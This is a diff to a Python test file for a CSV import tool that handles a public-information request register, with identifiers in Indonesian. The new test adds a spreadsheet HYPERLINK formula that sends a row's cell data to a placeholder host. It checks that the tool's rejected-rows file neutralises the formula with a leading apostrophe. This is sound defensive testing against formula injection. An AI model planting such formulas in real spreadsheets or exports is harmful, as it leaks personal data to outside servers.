@@ -572,17 +572,24 @@ def test_berkas_tolak_tanpa_dibetulkan_tetap_menolak_nik_rusak(run, ws):
     assert "5271051512683431" not in r.stdout.split("Masalah")[-1]
 
 
+LINK = '=HYPERLINK("http://contoh.invalid/?"&D3,"lihat")'  # (text in the source)
+
+
 def test_berkas_tolak_yang_dibetulkan_dapat_diimpor(run, ws, tmp_path):
     src = write_csv(
         tmp_path / "lama.csv",
         [
             HEAD + ["Disposisi"],
             ["001/PPID/5271/I/2026", "5/1/2026", "Ani", "Salinan DPT", ""],
-            ["002/PPID/5271/II/2026", "31/02/2026", "Bayu", "Data TPS", "ke Kasubbag"],
+            ["002/PPID/5271/II/2026", "31/02/2026", "Bayu", "Data TPS", LINK],
         ],
     )
     run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
     (path,) = (ws.root / "impor").glob("tolak-lama-*.csv")
+    # opened in Excel to be corrected: a text cell stays text there, not a live formula
+    # sending the row's data away (it was written as read)
+    quoted = LINK.replace('"', '""')
+    assert f'"\'{quoted}"' in path.read_text("utf-8-sig")
     fixed = path.read_text("utf-8-sig").replace("31/02/2026", "28/02/2026")
     fixed_path = tmp_path / "tolak-dibetulkan.csv"
     fixed_path.write_text(fixed, "utf-8-sig")
@@ -590,7 +597,7 @@ def test_berkas_tolak_yang_dibetulkan_dapat_diimpor(run, ws, tmp_path):
     assert "kolom berkas tolak diabaikan: lembar_sumber, baris_sumber, alasan_tolak" in r.stderr
     rows = {x["nama_pemohon"]: x for x in register_rows(ws)}
     assert rows["Bayu"]["tanggal_diterima"] == "2026-02-28"
-    assert rows["Bayu"]["catatan"] == "Disposisi: ke Kasubbag"  # bookkeeping columns dropped
+    assert rows["Bayu"]["catatan"] == f"Disposisi: {LINK}"  # bookkeeping columns dropped
     # and the original file again: nothing new
     before = snapshot(ws.root)
     again = run.ok("impor", str(src), "--register", "permohonan")
